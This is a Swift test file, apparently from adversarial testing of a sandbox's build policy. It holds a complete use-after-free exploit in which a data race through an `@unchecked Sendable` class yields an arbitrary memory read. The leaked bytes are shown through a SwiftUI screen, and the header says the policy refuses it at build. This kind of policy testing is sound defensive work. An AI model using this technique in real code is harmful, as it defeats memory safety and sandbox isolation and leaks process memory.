// Attack (from a third break-it pass of issue 30): a data race frees an array's buffer while another thread still
// writes through an `inout` into it, then a String's two words in the reused memory read any address, in code that
// compiles under strict memory safety. The race needs `@unchecked Sendable`, refused at build (ModulePolicyText).
// stage: build
// message: switches off the compiler's data-race checks
import Foundation
import ViewSim

// Use-after-free in safe Swift: a data race the compiler accepts (an `@unchecked Sendable` class, which strict memory
// safety does not flag) frees an array's buffer while this thread holds an `inout` to its first element (exclusivity
// is checked per thread only), then puts a class instance in the freed memory: the `inout` now aliases the instance's
// `String` property, whose two words are written to make a String that reads any address.
struct Quad { var a = 0, b = 0, c = 0, d = 0 }
final class Victim {
    var p0 = 0, p1 = 0
    var s: String = "placeholder placeholder placeholder"
    var p2 = 0, p3 = 0, p4 = 0, p5 = 0, p6 = 0, p7 = 0
}
final class Holder: @unchecked Sendable {
    var arr: [Quad] = [Quad(), Quad()]
    let freed = DispatchSemaphore(value: 0)
    let go = DispatchSemaphore(value: 0)
    var keep: [Victim] = []
}

func poke(_ q: inout Quad, _ h: Holder, _ address: UInt, _ count: Int) -> [UInt8] {
    h.go.signal()
    h.freed.wait()
    // q now lies over h.keep[0].s: (countAndFlags, object). An immortal large string's object is 0x8000… | (bytes - 32).
    q.a = count | (1 << 60)
    q.b = Int(bitPattern: (1 << 63) | (address - 32))
    return Array(h.keep[0].s.utf8)
}

func peek(_ address: UInt, _ count: Int) -> [UInt8] {
    let h = Holder()
    h.keep.reserveCapacity(16)
    let t = Thread { h.go.wait(); h.arr = []; h.keep.append(Victim()); h.freed.signal() }
    t.start()
    return poke(&h.arr[0], h, address, count)
}

let report: String = {
    guard let maps = try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8),
          let first = maps.split(separator: "\n").first,
          let start = first.split(separator: "-").first, let address = UInt(start, radix: 16) else { return "no maps" }
    let bytes = peek(address, 16)
    return "first mapping \(first) bytes " + bytes.map { $0 < 16 ? "0\(String($0, radix: 16))" : String($0, radix: 16) }.joined(separator: " ")
}()

struct SessionTally: View {
    @State private var sessions = -1  // wrong on purpose: the regression test then prints the screen, REPORT included

    var body: some View {
        VStack {
            Text("Sessions today: \(sessions)")
            Button("Log a session") { sessions += 1 }
        }
    }
}

struct FocusScreen: View {
    @State private var showsTally = true

    var body: some View {
        VStack {
            Text("REPORT " + report)
            Toggle("Show tally", isOn: $showsTally)
            if showsTally {
                SessionTally()
            }
        }
    }
}
